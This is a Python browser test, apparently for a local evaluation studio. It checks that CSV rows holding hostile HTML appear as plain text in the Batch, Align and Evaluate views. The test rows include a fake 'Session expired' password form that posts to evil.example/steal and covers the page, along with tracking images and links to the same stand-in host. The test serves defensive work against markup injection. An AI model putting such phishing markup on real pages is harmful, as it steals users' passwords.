"""A row's text never takes over the page (issue 22 item 4, issue 21 item 3), in a real browser
(Debian's chromium driven by playwright) against a launched local studio: a CSV whose rows hold a
fake sign-in form whose style covers the page, external images (HTML and Markdown) and a Markdown
link, is scored in Batch (the table shows its responses), started as an Align project (the card
shows the row) and evaluated by a column of those strings (the card's group values). No form, no
password box, no fixed or absolute overlay, no request to another host; the code response keeps
its indentation and its numbered lines stay lines."""

import os
import re
from pathlib import Path

import pytest

from raft.files import write_rows
from tests.app.test_browser import CHROMIUM, FLAGS

pytestmark = pytest.mark.browser

FORM = (
    '<form action="https://evil.example/steal" method="post" style="position:fixed;top:0;left:0;width:100vw;'
    'height:100vh;z-index:99999;background:white"><h1>Session expired</h1><input name="password" '
    'type="password" placeholder="Password"><button>Sign in</button></form>'
)
IMAGES = '<img src="https://evil.example/pixel.png"> ![x](https://evil.example/md.png) [open](https://evil.example/)'
CODE = "def f(x):\n    if x:\n        return 1\n\n    return 2\n1. first line\n2. second line"
ROWS = [
    {
        "question": f"{FORM} question {i}",
        "answer": f"{CODE}\n{IMAGES}",
        "score": 1 + i % 5,
        "category": [FORM, IMAGES, "<b style='position:absolute;inset:0'>cover</b>"][i % 3],
    }
    for i in range(12)
]
OVERLAY_JS = """(selector) => {
  const found = [];
  for (const root of document.querySelectorAll(selector)) {
    for (const el of root.querySelectorAll('*')) {
      if (el.closest('[data-testid=status-tracker]')) continue;  // Gradio's own loading veil
      const pos = getComputedStyle(el).position;
      const box = el.getBoundingClientRect();
      const covers = box.width > 600 && box.height > 300;  // a row's overlay covers the page; a badge does not
      if (pos === 'fixed' || (pos === 'absolute' && covers)) found.push(el.outerHTML.slice(0, 200));
    }
  }
  return found;
}"""


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail("chromium is missing in CI: .ci/run installs Debian's chromium")
        pytest.skip("chromium is not installed (apt-get install -y chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        yield browser
        browser.close()


def _nothing_took_over(page, requests: list[str], where: str) -> None:
    assert page.locator("input[name=password], input[type=password]").count() == 0, where
    assert page.locator(f"{where} form, {where} img, {where} h1").count() == 0, where
    assert page.evaluate(OVERLAY_JS, where) == [], where
    assert not [u for u in requests if "evil.example" in u], requests


def _pick(page, elem_id: str, pattern: str) -> None:
    page.locator(f"#{elem_id} input").click()
    page.get_by_role("option", name=re.compile(pattern)).first.click()


def test_attack_rows_show_as_text_in_batch_align_and_evaluate(browser, studios, tmp_path, pytestconfig):
    from playwright.sync_api import expect

    url, studio = studios["local"]
    csv = write_rows(tmp_path / "attack.csv", ROWS)
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(60_000)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        page.goto(url)
        page.get_by_role("tab", name="Batch").click()
        page.locator("#batch-file input[type=file]").set_input_files(str(csv))
        status = page.locator("#batch-map-status")  # the form fills from the recognised columns
        expect(status).to_contain_text("Ready: every field the judge reads has a column", timeout=60_000)
        expect(page.locator("#batch-map-rubric input")).to_have_value("Helpfulness")
        page.locator("#batch-button").click()
        expect(page.locator("#batch-summary")).to_contain_text("Scored 12 rows", timeout=180_000)
        expect(page.locator("#batch-table")).to_contain_text("def f(x):")
        _nothing_took_over(page, requests, "#batch-table")

        page.reload()
        page.get_by_role("tab", name="Align").click()
        page.get_by_text("Start a project", exact=True).click()
        _pick(page, "align-batch", r"^attack\.csv · ")
        page.locator("#align-create").click()
        card = page.locator("#align-card")
        expect(card).to_contain_text("Row ", timeout=60_000)
        expect(card).to_contain_text("<form action=")  # the row's markup, shown as the text it is
        assert "Helpful" in card.inner_text() or "helpful" in card.inner_text()  # the file's rubric travelled
        pre = card.locator("pre").nth(1).inner_text()  # the response
        assert "def f(x):\n    if x:\n        return 1\n\n    return 2\n1. first line\n2. second line" in pre
        assert card.locator("ol, li ol").count() == 0  # numbered lines are not a list
        _nothing_took_over(page, requests, "#align-card")

        page.reload()
        page.get_by_role("tab", name="Evaluate").click()
        _pick(page, "ev-batch", r"^attack\.csv · ")
        page.get_by_label("Group by (columns, comma-separated)").fill("category")
        page.locator("#ev-button").click()
        ev = page.locator("#ev-card")
        expect(ev).to_contain_text("By category", timeout=120_000)
        expect(ev).to_contain_text("<form action=\"https://evil.example/steal\"")  # the group value, as text
        _nothing_took_over(page, requests, "#ev-card")
        page.screenshot(path=str(tmp_path / "evaluate.png"), full_page=True)
    finally:
        page.close()
    if not hasattr(pytestconfig, "security_results"):
        pytestconfig.security_results = []
    pytestconfig.security_results.append(
        ("rows holding a sign-in form, overlays and outside images, in Batch/Align/Evaluate", "local", "text only")
    )
